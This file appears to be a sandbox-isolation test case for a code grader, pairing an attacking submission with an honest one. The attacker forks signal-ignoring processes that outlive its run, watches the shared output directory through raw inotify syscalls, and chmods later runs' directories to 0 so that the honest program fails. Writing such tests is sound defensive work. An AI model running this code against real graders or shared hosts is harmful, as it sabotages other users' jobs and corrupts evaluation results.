# TRIES: to outlive its execution, and to close the directories of later ones by chmod as soon as inotify tells their names. SUCCESS: the
# honest program after it, which writes a file, is judged wrongly.
#: check = next Passed; hurt
#: short = yes
#: start = syscalls

import re
import signal
import time

descriptor = sc(294, 2048)
print(tell(sc(254, descriptor, b"__OUT__", 0xFFF)))
mine = os.path.basename(os.getcwd())


def close_others():
    end = time.time() + 6
    while time.time() < end:
        try:
            told = os.read(descriptor, 8192)
        except OSError:
            time.sleep(0.002)
            continue
        for name in set(re.findall(rb"[\w.-]{8,}", told)) - {mine.encode()}:
            try:
                os.chmod(b"__OUT__/" + name, 0)
            except OSError:
                pass


for n in range(3):
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        if os.fork() == 0:
            close_others()
        os._exit(0)


def solve(x):
    return 2


# ==== NEXT EXECUTION ====
import time


def solve(x):
    time.sleep(0.5)
    with open("note", "w") as f:
        f.write("honest")
    return x + 1
